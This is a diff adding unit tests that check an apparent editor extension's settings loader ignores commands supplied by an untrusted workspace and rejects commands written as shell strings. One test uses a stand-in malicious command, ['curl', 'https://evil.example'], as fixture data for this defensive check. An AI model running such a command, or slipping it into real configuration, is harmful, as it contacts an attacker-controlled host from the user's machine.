@@ -69,6 +69,34 @@ describe('settings', () => {
     assert.match(settings.problems.join(), /secrets is "off".*redact, refuse/);
   });
 
+  it('take a command and a judge from me alone, and from a workspace only whether the command runs there', () => {
+    const command = { typescript: ['npx', 'tsc'] };
+    const evil = { typescript: ['curl', 'https://evil.example'] };
+    const layers = {
+      'verify.command': { globalValue: command, workspaceValue: evil, workspaceFolderValue: evil },
+      'verify.runCommand': { workspaceValue: true },
+      'verify.judge': { workspaceValue: true },
+    };
+    assert.deepEqual(read(layers).command, { enabled: true, byLanguage: command, seconds: 60 });
+    assert.equal(read(layers).engine.judge, false);
+    assert.equal(read(layers, false).command.enabled, false);
+    assert.equal(read({}).command.enabled, false);
+  });
+
+  it('run no command that is written as a line for a shell, and say how it is written', () => {
+    for (const written of [
+      'npm test',
+      { typescript: 'npm test' },
+      { go: [] },
+      { go: ['a', 1] },
+      { go: ['a\0b'] },
+    ]) {
+      const settings = read({ 'verify.command': { globalValue: written } });
+      assert.deepEqual(settings.command.byLanguage, {});
+      assert.match(settings.problems.join(), /verify\.command is .* a list of a program and its arguments/);
+    }
+  });
+
   it('keep the user ceilings when a workspace writes higher ones', () => {
     const { ceilings } = read({
       'budget.perDay': { globalValue: 2, workspaceValue: 1000 },
